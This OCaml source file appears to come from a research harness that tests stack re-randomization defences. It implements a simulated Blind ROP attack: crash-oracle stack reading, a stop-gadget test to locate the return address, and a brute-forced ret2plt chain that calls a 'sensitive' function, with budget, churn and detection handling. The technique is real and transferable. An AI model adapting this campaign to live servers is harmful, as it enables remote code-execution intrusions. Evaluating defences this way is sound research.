open R2c_machine

type outcome = { probes : int; ra_offset : int option; note : string; compromised : bool }

let churn_limit = 3
let stall_limit = 20
let sweep_budget = 4000

(* Sweep chains that stop crashing this many times in a row no longer land
   on a return address. *)
let quiet_limit = 40

exception Give_up of string

let campaign ~probe_budget (v : Victim.t) =
  let probes = ref 0 and stalls = ref 0 and churn = ref 0 in
  let give_up note = raise (Give_up note) in
  let budget () = if !probes >= probe_budget then give_up "probe budget exhausted" in
  (* Every probe is charged to the budget here, so no test under way —
     a revalidation, a stop-gadget pair — can run past it. *)
  let probe payload =
    budget ();
    incr probes;
    let r = v.probe payload in
    if r <> Victim.Refused then stalls := 0
    else begin
      incr stalls;
      if !stalls >= stall_limit then
        give_up (Printf.sprintf "%d probes in a row refused: nothing to probe" stall_limit)
    end;
    r
  in
  let filler = Buffer.create 128 in
  (* Likely bytes first (zero padding, canonical high bytes), then all. *)
  let guesses = [ 0x00; 0x41; 0xff; 0x7f; 0xfe; 0x55; 0x40 ] @ List.init 256 Fun.id in
  (* A byte the server already accepted should still be accepted: when it
     stops being, the layout has changed under the attacker's feet —
     re-randomization, BROP's published kryptonite. *)
  let revalidate () =
    Buffer.length filler = 0
    ||
    match probe (Buffer.contents filler) with
    | Victim.Served _ ->
        churn := 0;
        true
    | Victim.Died _ ->
        incr churn;
        if !churn >= churn_limit then give_up "layout churn: learned bytes no longer hold";
        false
    | Victim.Refused -> false
  in
  let rec learn_byte = function
    | [] ->
        (* Every value crashed at this depth: the oracle is lying —
           nothing stable left to learn. *)
        give_up "stack reading wedged: no survivable byte"
    | g :: tl -> (
        match probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
        | Victim.Served _ -> Buffer.add_char filler (Char.chr g)
        | Victim.Died _ -> learn_byte tl
        | Victim.Refused -> learn_byte (g :: tl))
  in
  (* Stop-gadget test at a word boundary: a ret into a harmless PLT entry
     produces one extra response line iff the word is the return address
     (both probes crash; the information is in the output seen first). *)
  let stop_plt = Payload.plt_addr_of "print_int" in
  let ra_here () =
    let base = Buffer.contents filler in
    match probe (base ^ Payload.le64 stop_plt) with
    | Victim.Served _ | Victim.Refused -> false
    | Victim.Died with_stop -> (
        match probe (base ^ Payload.fill 8) with
        | Victim.Served _ | Victim.Refused -> false
        | Victim.Died with_garbage -> with_stop > with_garbage)
  in
  (* ret2plt: [pop rdi-style gadget][marker][sensitive] written over the
     located return address; the first-gadget address is brute-forced
     through the region after the PLT — architectural knowledge for a
     non-PIE binary. *)
  let sweep () =
    let base = Buffer.contents filler in
    let sensitive = Payload.plt_addr_of "sensitive" in
    let start = Addr.text_base + (16 * List.length Image.builtin_names) in
    let addr = ref start and quiet = ref 0 in
    while
      budget ();
      (not (v.compromised ())) && !addr < start + sweep_budget
    do
      (* Sweeping blind is pointless if the layout churned mid-sweep:
         recheck the learned filler every so often, and notice when the
         chains stop crashing altogether. *)
      if (!addr - start) mod 24 = 23 && not (revalidate ()) then incr addr
      else begin
        let chain =
          Payload.le64 !addr ^ Payload.le64 R2c_workloads.Vulnapp.marker ^ Payload.le64 sensitive
        in
        match probe (base ^ chain) with
        | Victim.Died _ ->
            quiet := 0;
            incr addr
        | Victim.Served _ ->
            incr quiet;
            if !quiet >= quiet_limit then give_up "sweep chains stopped crashing: layout churn";
            incr addr
        | Victim.Refused -> ()
      end
    done;
    if not (v.compromised ()) then give_up "gadget sweep exhausted without a working chain"
  in
  let ra_found = ref false in
  let ended =
    try
      while (not !ra_found) && not (v.compromised ()) do
        budget ();
        if Buffer.length filler >= 512 then give_up "return address not located within 512 bytes"
        else if revalidate () then
          if Buffer.length filler mod 8 = 0 && ra_here () then ra_found := true
          else learn_byte guesses
      done;
      if !ra_found then sweep ();
      None
    with Give_up note -> Some note
  in
  let compromised = v.compromised () in
  {
    probes = !probes;
    ra_offset = (if !ra_found then Some (Buffer.length filler) else None);
    note =
      (if compromised then "compromised: sensitive(marker) reached"
       else Option.value ended ~default:"done");
    compromised;
  }

let run ?(probe_budget = 20_000) ~target () =
  let o = campaign ~probe_budget (Oracle.victim target) in
  let ra =
    Option.map (Printf.sprintf "return address at buffer+%d (stack reading)") o.ra_offset
  in
  let monitor =
    if Oracle.detected target then [ "monitor tripped: every later probe refused" ] else []
  in
  Report.of_target ~attempts:o.probes ~notes:(Option.to_list ra @ (o.note :: monitor)) target
